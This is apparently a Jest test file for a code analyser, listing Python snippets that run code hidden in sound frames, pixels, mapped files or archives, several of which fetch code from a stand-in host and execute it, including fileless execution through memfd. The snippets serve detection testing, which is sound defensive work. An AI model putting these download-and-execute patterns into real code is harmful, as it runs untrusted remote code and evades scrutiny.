import { expect, test } from '@jest/globals';
import { actsIn, read } from './read.js';

/** What a file holds is followed through the container that it is opened as. */
const CARRIED: readonly { name: string; source: string; act: string }[] = [
  {
    name: 'frames of a sound',
    source: 'import wave\nw = wave.open("data/tune.wav")\nexec(w.readframes(w.getnframes()))',
    act: 'run-code<own-data>',
  },
  {
    name: 'frames of a sound that was fetched',
    source:
      'import io, requests, wave\nw = wave.open(io.BytesIO(requests.get("https://a.invalid/x").content))\nexec(w.readframes(9))',
    act: 'run-code<network>',
  },
  {
    name: 'pixels',
    source: 'from PIL import Image\nexec(bytes(Image.open("logo.png").getdata()))',
    act: 'run-code<own-data>',
  },
  {
    name: 'a member of a zip that was fetched',
    source:
      'import io, requests, zipfile\nz = zipfile.ZipFile(io.BytesIO(requests.get("https://a.invalid/z").content))\nexec(z.read("x.py"))',
    act: 'run-code<network>',
  },
  {
    name: 'a member of a tar that was fetched',
    source:
      'import io, tarfile, urllib.request\nt = tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen("https://a.invalid/z").read()))\nexec(t.extractfile("x").read())',
    act: 'run-code<network>',
  },
  {
    name: 'an unpacked archive',
    source:
      'import io, os, requests, zipfile\nzipfile.ZipFile(io.BytesIO(requests.get("https://a.invalid/z").content)).extractall("/tmp/unpacked")\nos.system("/tmp/unpacked/run.sh")',
    act: 'run-process<downloaded-file>',
  },
  {
    name: 'a mapped file',
    source: 'import mmap\nf = open("table.bin", "rb")\nexec(mmap.mmap(f.fileno(), 0).read(100))',
    act: 'run-code<own-data>',
  },
  {
    name: 'a file in memory',
    source:
      'import os, requests\nfd = os.memfd_create("x")\nos.write(fd, requests.get("https://a.invalid/x").content)\nos.execve(f"/proc/self/fd/{fd}", ["x"], {})',
    act: 'run-process<downloaded-file>',
  },
  {
    name: 'text that was fetched to a file and read again',
    source:
      'import urllib.request\nurllib.request.urlretrieve("https://a.invalid/x", "/tmp/x.txt")\nexec(open("/tmp/x.txt").read())',
    act: 'run-code<downloaded-file>',
  },
];

test.each(CARRIED)('$name', ({ source, act }) => {
  expect(actsIn(read(source))).toContain(act);
});
